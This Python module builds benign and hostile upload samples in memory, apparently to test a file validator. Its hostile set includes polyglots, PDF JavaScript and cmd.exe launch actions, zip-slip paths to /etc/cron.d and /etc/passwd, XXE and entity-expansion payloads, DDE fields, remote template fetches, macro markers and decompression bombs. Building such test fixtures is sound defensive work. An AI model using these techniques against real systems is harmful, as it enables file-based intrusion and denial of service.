"""Files that somebody may send to do harm, and harmless ones of every kind; all made here, none kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import docx
import openpyxl
import typst

from guiguan.cli.demo.words import pdf

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PDF = pdf("example")
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}" TargetMode="External"/></Relationships>'
)


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 1, height: int = 1, more: bytes = b"", tail: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + tail


def jpeg(width: int = 1, height: int = 1, comment: bytes = b"", tail: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + said + frame + b"\xff\xda\0\x02\0\xff\xd9" + tail
    )


def ole(*names: str, more: bytes = b"") -> bytes:
    """An old container as far as its directory tells; the entries lie where a real one has them."""
    entries = b""
    for name in ("Root Entry", *names):
        spelled = name.encode("utf-16-le") + b"\0\0"
        entries += spelled.ljust(64, b"\0") + struct.pack("<H", len(spelled)) + b"\x02\x01" + b"\0" * 60
    return OLE + b"\0" * 504 + entries.ljust(2048, b"\0") + more


def packed(parts: dict[str, bytes], *, comment: bytes = b"", how: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return stream.getvalue()


def office(more: dict[str, bytes] | None = None, main: str = "word/document.xml", **options: Any) -> bytes:
    return packed({"[Content_Types].xml": TYPES, main: b"<w:document/>", **(more or {})}, **options)


def pdf_with(words: bytes) -> bytes:
    return PDF.replace(b"<</Type/Catalog", b"<</Type/Catalog" + words)


def pdf_packed(words: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    body = zlib.compress(words)
    told = b"<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>" % (filters, len(body))
    return PDF.replace(b"xref\n", b"9 0 obj\n%s\nstream\n%s\nendstream\nendobj\nxref\n" % (told, body), 1)


def patched(content: bytes, wanted: Callable[[bytearray], None]) -> bytes:
    changed = bytearray(content)
    wanted(changed)
    return bytes(changed)


def _encrypted(content: bytearray) -> None:
    content[content.rfind(b"PK\x01\x02") + 8] |= 1


def _lies_about_size(content: bytearray) -> None:
    """The directory tells of a few bytes where a hundred megabytes lie."""
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 100)


def _overlaps(content: bytearray) -> None:
    last = content.rfind(b"PK\x01\x02")
    content[last + 42 : last + 46] = struct.pack("<I", 0)


def _linked() -> bytes:
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo("word/media/image1.png")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


def _nested(depth: int) -> bytes:
    inner = office()
    for _ in range(depth):
        inner = office({"word/embeddings/a.docx": inner})
    return inner


def _twice() -> bytes:
    return office({"word/Document.xml": b"<w:document/>"})


def _docx() -> bytes:
    stream = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("示例")
    document.save(stream)
    return stream.getvalue()


def _xlsx() -> bytes:
    stream = io.BytesIO()
    openpyxl.Workbook().save(stream)
    return stream.getvalue()


def harmless() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of what must be taken."""
    yield "甲.pdf", PDF
    yield "排版.pdf", typst.compile(b"= example\n#lorem(50)", format="pdf")  # packs its objects
    yield "打包.pdf", pdf_packed(b"1 0 <</Type/Font>>")
    yield "图.png", png()
    yield "大图.PNG", png(12_000, 8_000)
    yield "照片.jpg", jpeg(4000, 3000)
    yield "手机.jpeg", jpeg(4000, 3000, tail=b"ftypmp42" * 10)  # cameras append a moving picture
    yield "文档.docx", _docx()
    yield "表格.xlsx", _xlsx()
    yield "幻灯.pptx", office(main="ppt/presentation.xml")
    yield "含表.docx", _nested(1)
    yield "公式.docx", office({"word/embeddings/oleObject1.bin": ole("Equation Native")})
    yield "模板.docx", office({"word/_rels/settings.xml.rels": RELATION.format(
        "attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm").encode()})  # fmt: skip
    yield (
        "链接.docx",
        office({"word/_rels/document.xml.rels": RELATION.format("hyperlink", "https://example.invalid/").encode()}),
    )
    yield "旧文档.doc", ole("WordDocument", "1Table")
    yield "旧表格.xls", ole("Workbook")
    yield "更旧.xls", ole("Book")
    yield "旧幻灯.ppt", ole("PowerPoint Document")


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, name, bytes) of what must be refused."""
    yield from _wrong_kinds()
    yield from _two_faced()
    yield from _pdfs()
    yield from _archives()
    yield from _active_office()
    yield from _bombs()


def _wrong_kinds() -> Iterator[tuple[str, str, bytes]]:
    yield "empty", "空.pdf", b""
    yield "html", "页.pdf", b"<html><script>1</script>"
    yield "html as picture", "页.png", b"<!doctype html><script>1</script>"
    yield "svg", "图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='1'/>"
    yield "svg as picture", "图.png", b"<?xml version='1.0'?><svg onload='1'/>"
    yield "program", "程序.pdf", b"MZ" + b"\0" * 60
    yield "elf", "程序.png", b"\x7fELF" + b"\0" * 60
    yield "eicar", "样本.pdf", EICAR
    yield "gif", "图.gif", b"GIF89a" + b"\0" * 40
    yield "gif as png", "图.png", b"GIF89a" + b"\0" * 40
    yield "rtf as doc", "文.doc", rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\x}}}"
    yield "xml with outside entity", "甲.docx", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]>"
    yield "plain zip", "甲.docx", packed({"a.txt": b"x"})
    yield "zip", "甲.zip", packed({"a.txt": b"x"})
    yield "rar", "甲.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 40
    yield "7z as pdf", "甲.pdf", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40
    yield "pdf as picture", "甲.png", PDF
    yield "picture as pdf", "甲.pdf", png()
    yield "without suffix", "甲", PDF
    yield "suffix of a program", "甲.pdf.exe", PDF
    yield "suffix hidden by direction", "甲\u202efdp.exe", PDF
    yield "suffix of full width", "甲．exe．pdf", PDF
    yield "docm", "甲.docm", office()
    yield "xlsx called docx", "甲.docx", office(main="xl/workbook.xml")
    yield "old container of unknown kind", "甲.doc", ole("Contents")
    yield "installer", "甲.doc", ole("\u4840\u3f7f")


def _two_faced() -> Iterator[tuple[str, str, bytes]]:
    yield "pdf and zip", "两用.pdf", PDF + packed({"payload.html": b"x"})
    yield "png and zip", "两用.png", png(tail=packed({"payload.html": b"x"}))
    yield "jpeg and jar", "两用.jpg", jpeg(tail=packed({"META-INF/MANIFEST.MF": b"x"}))
    yield "jpeg and rar", "两用.jpg", jpeg(tail=b"Rar!\x1a\x07\x01\0")
    yield "gif and jar", "两用.png", b"GIF89a" + packed({"META-INF/MANIFEST.MF": b"x"})
    yield "program and docx", "两用.docx", b"MZ" + b"\0" * 60 + office()
    yield "html and docx", "两用.docx", b"<script>1</script>" + office()
    yield "docx with a tail", "两用.docx", office(comment=b"<script>1</script>")
    yield "html in jpeg comment", "两用.jpg", jpeg(comment=b"<script>alert(1)</script>")
    yield "html in png text", "两用.png", png(more=chunk(b"tEXt", b"a\0<html><body>"))
    yield "php behind png", "两用.png", png(tail=b"<?php system(1);")
    yield "html before pdf", "两用.pdf", b"<html>" + PDF
    yield "html behind pdf", "两用.pdf", PDF + b"<html><script>1</script>"
    yield "old container and zip", "两用.doc", ole("WordDocument", more=packed({"a.txt": b"x"}))


def _pdfs() -> Iterator[tuple[str, str, bytes]]:
    yield "pdf script", "动.pdf", pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
    yield "pdf script spelled otherwise", "动.pdf", pdf_with(b"/OpenAction<</S/J#61vaScr#69pt/JS(1)>>")
    yield "pdf launch", "动.pdf", pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>")
    yield "pdf attachment", "动.pdf", pdf_with(b"/Names<</EmbeddedFiles<<>>>>")
    yield "pdf rich media", "动.pdf", pdf_with(b"/Annots[<</Subtype/RichMedia>>]")
    yield "pdf form script", "动.pdf", pdf_with(b"/AcroForm<</XFA[]>>")
    yield "pdf sends its form", "动.pdf", pdf_with(b"/OpenAction<</S/SubmitForm/F(http://example.invalid)>>")
    yield "pdf script, packed", "动.pdf", pdf_packed(b"1 0 <</S/JavaScript/JS(1)>>")
    yield "pdf script, packed and spelled", "动.pdf", pdf_packed(b"1 0 <</S/#4AavaScript/JS(1)>>")
    yield "pdf packed by another filter", "动.pdf", pdf_packed(b"1 0 <<>>", filters=b"/LZWDecode")
    yield "pdf packed twice", "动.pdf", pdf_packed(b"1 0 <<>>", filters=b"[/ASCIIHexDecode/FlateDecode]")
    yield "pdf locked", "锁.pdf", PDF.replace(b"trailer\n<<", b"trailer\n<</Encrypt 9 0 R")
    yield "pdf cut off", "断.pdf", PDF[:200]


def _archives() -> Iterator[tuple[str, str, bytes]]:
    for name in ("../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:\\x.xml", "word\\..\\x", "word/a\x01.xml"):
        yield f"zip-slip {name!r}", "滑.docx", office({name: b"x"})
    yield "zip link", "链.docx", _linked()
    yield "zip twice the same part", "重.docx", _twice()
    yield "zip locked", "锁.docx", patched(office(), _encrypted)
    yield "zip packed otherwise", "别.docx", office(how=zipfile.ZIP_LZMA)
    yield "zip cut off", "断.docx", office()[:-30]
    yield "zip of zips", "套.docx", office({"word/embeddings/a.zip": packed({"a.txt": b"x"})})
    yield "zip too deep", "深.docx", _nested(3)


def _active_office() -> Iterator[tuple[str, str, bytes]]:
    yield "macro", "宏.docx", office({"word/vbaProject.bin": b"x"})
    yield "macro under another name", "宏.docx", office({"word/VBAPROJECT.BIN": b"x"})
    yield "old macro sheet", "宏.xlsx", office({"xl/macrosheets/sheet1.xml": b"<x/>"}, main="xl/workbook.xml")
    yield "macro by content type", "宏.docx", packed({"[Content_Types].xml": b"<T>application/vnd.ms-word.document."
                                                    b"macroEnabled.main+xml</T>", "word/document.xml": b"<w/>"})  # fmt: skip
    yield "control", "控.docx", office({"word/activeX/activeX1.xml": b"<x/>"})
    yield "program inside", "夹.docx", office({"word/media/image1.png": b"MZ" + b"\0" * 60})
    yield "package inside", "夹.docx", office({"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")})
    yield (
        "macro in what is inside",
        "夹.docx",
        office({"word/embeddings/a.docx": office({"word/vbaProject.bin": b"x"})}),
    )
    for kind, target in (("attachedTemplate", "https://example.invalid/t.dotm"), ("oleObject", "\\\\host\\share\\x"),
                         ("frame", "file://host.invalid/x.html"), ("attachedTemplate", "&#104;ttp://example.invalid/")):  # fmt: skip
        yield (
            f"fetches {target}",
            "远.docx",
            office({"word/_rels/document.xml.rels": RELATION.format(kind, target).encode()}),
        )
    yield "xxe", "实.docx", office({"word/styles.xml": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///x'>]><a>&x;</a>"})
    yield "xxe far inside", "实.docx", office({"word/styles.xml": b"<!--" + b"x" * 300_000 + b"--><!DOCTYPE a []><a/>"})
    yield "xxe in another encoding", "实.docx", office({"word/styles.xml": "<!DOCTYPE a []><a/>".encode("utf-16")})
    yield "laughs", "实.xlsx", office({"xl/styles.xml": b"<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;'>]><a/>"},
                                      main="xl/workbook.xml")  # fmt: skip
    yield "starts a program", "域.docx", office({"word/header1.xml": b"<w:instrText>DDEAUTO c:\\\\x</w:instrText>"})
    yield "old macro, word", "宏.doc", ole("WordDocument", "Macros", "VBA")
    yield "old macro, excel", "宏.xls", ole("Workbook", "_VBA_PROJECT_CUR")
    said = b"\x02\x00\x00\x04\x0c\x00\x00\x00" + b"\x01\0\0\0" * 3
    yield "old macro, powerpoint", "宏.ppt", ole("PowerPoint Document", more=said)
    yield "old package", "夹.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native")
    yield "locked", "锁.docx", ole("EncryptedPackage", "EncryptionInfo")


def _bombs() -> Iterator[tuple[str, str, bytes]]:
    zeros = b"0" * 60_000_000
    yield "bomb by ratio", "爆.docx", office({"word/media/a.bin": zeros})
    yield "bomb by sum", "爆.docx", office({f"word/media/{n}.bin": zeros[:7_000_000] for n in range(31)})
    yield "bomb that lies about its size", "爆.docx", patched(office({"word/styles.xml": zeros}), _lies_about_size)
    yield "bomb that repeats itself", "爆.docx", patched(office({"word/styles.xml": b"<a/>"}), _overlaps)
    yield "bomb of many parts", "爆.docx", office({f"word/p{n}": b"" for n in range(5001)})
    yield "bomb in a pdf", "爆.pdf", pdf_packed(zeros + zeros[:10_000_000])
    yield "bomb of pixels", "爆.png", png(50_000, 50_000)
    yield "bomb of one side", "爆.png", png(100_000, 1)
    yield "bomb of pixels, jpeg", "爆.jpg", jpeg(65_000, 65_000)
    yield "no pixels", "零.png", png(0, 1)
    yield "cut picture", "断.png", png()[:40]
    yield "cut photograph", "断.jpg", jpeg()[:30]
